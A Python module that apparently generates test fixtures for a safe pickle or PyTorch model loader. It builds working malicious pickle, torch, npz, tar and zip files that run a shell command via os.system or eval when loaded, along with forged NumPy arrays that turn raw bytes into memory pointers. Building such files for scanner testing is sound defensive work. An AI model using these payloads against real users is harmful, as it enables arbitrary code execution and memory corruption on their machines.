"""Pickles that are programs, and other files made to harm whoever opens them."""

from __future__ import annotations

import copyreg
import gzip
import io
import os
import pickle
import tarfile
import zipfile
from typing import Any

import numpy as np
import torch


class Call:
    """Pickled as a call of a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.parts = (function, args)

    def __reduce__(self) -> Any:
        return self.parts


def forged_dtype() -> bytes:
    """An array of objects whose dtype says that it holds none: NumPy makes pointers of its bytes."""
    honest = pickle.dumps(np.array([None], dtype=object), 2)
    return honest.replace(b"K?t", b"K\0t")  # the flags, 63


def honest_array() -> bytes:
    """An array of shape (3,)."""
    return pickle.dumps(np.arange(3, dtype="u1"), 2)


def zip_of(content: bytes) -> bytes:
    """What torch.save writes, with another data.pkl."""
    whole, out = io.BytesIO(), io.BytesIO()
    torch.save({}, whole)
    with zipfile.ZipFile(whole) as read, zipfile.ZipFile(out, "w") as write:
        for name in read.namelist():
            write.writestr(name, content if name.endswith("data.pkl") else read.read(name))
    return out.getvalue()


def tar_of(content: bytes) -> bytes:
    """What torch.save wrote before version 0.2."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def exploits(command: str) -> dict[str, bytes]:
    """Files by name that would run a command of the shell, or make pointers of bytes, where they are unpickled."""
    run = Call(os.system, command)
    by_name = (
        b"cbuiltins\ngetattr\n(cposix\nU\x06systemtR(U" + bytes([len(command)]) + command.encode() + b"tR."
    )
    pickled = pickle.dumps(run, 2)
    tensor = torch._utils._rebuild_tensor_v2
    legacy = io.BytesIO()
    torch.save({"x": run}, legacy, _use_new_zipfile_serialization=False)
    npz = io.BytesIO()
    np.savez(npz, x=np.array([run], dtype=object))
    program = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Identity()), program)
    hostile = {
        "reduce": pickle.dumps(run, 4),
        "protocol 0": pickle.dumps(run, 0),
        "dotted name": b"\x80\x04\x8c\x05numpy\x8c\x11ndarray.tofile.x\x93.",
        "getattr": by_name,
        "eval": pickle.dumps(Call(eval, f"__import__('os').system({command!r})"), 2),
        "import": pickle.dumps(Call(__import__, "antigravity"), 2),
        "copyreg": pickle.dumps(Call(copyreg._reconstructor, os._Environ, object, None), 2),
        "object array": pickle.dumps(np.array([run], dtype=object), 2),
        "forged dtype": forged_dtype(),
        "pointers": pickle.dumps(Call(np.ndarray, (1,), "O", b"A" * 8), 4),
        "pointers of a class": b"\x80\x04cnumpy\nndarray\nK\x01\x85\x8c\x01OC\x08AAAAAAAA\x87\x81.",
        "shape": honest_array().replace(b"K\x03\x85", b"\x8a\x08" + b"\xff" * 7 + b"\x0f\x85"),
        "rebuild": pickle.dumps(Call(tensor, run, 0, (2,), (1,), False, None), 2),
        "rebuild by type": pickle.dumps(
            Call(torch._tensor._rebuild_from_type_v2, os.system, str, (command,), {}), 2
        ),
        "nested": pickle.dumps(Call(torch.storage._load_from_bytes, zip_of(pickled)), 2),
        "changed function": b"\x80\x02cnumpy\ndtype\n}U\x08__code__NsN\x86b.",
        "gzip": gzip.compress(pickled),
        "npz": npz.getvalue(),
        "legacy": legacy.getvalue(),
        "tar": tar_of(pickled),
        "program": program.getvalue(),
        "empty": b"",
        "cut": zip_of(pickled)[:-30],
    }
    return hostile | {f"{name} in a zip": zip_of(content) for name, content in hostile.items()}
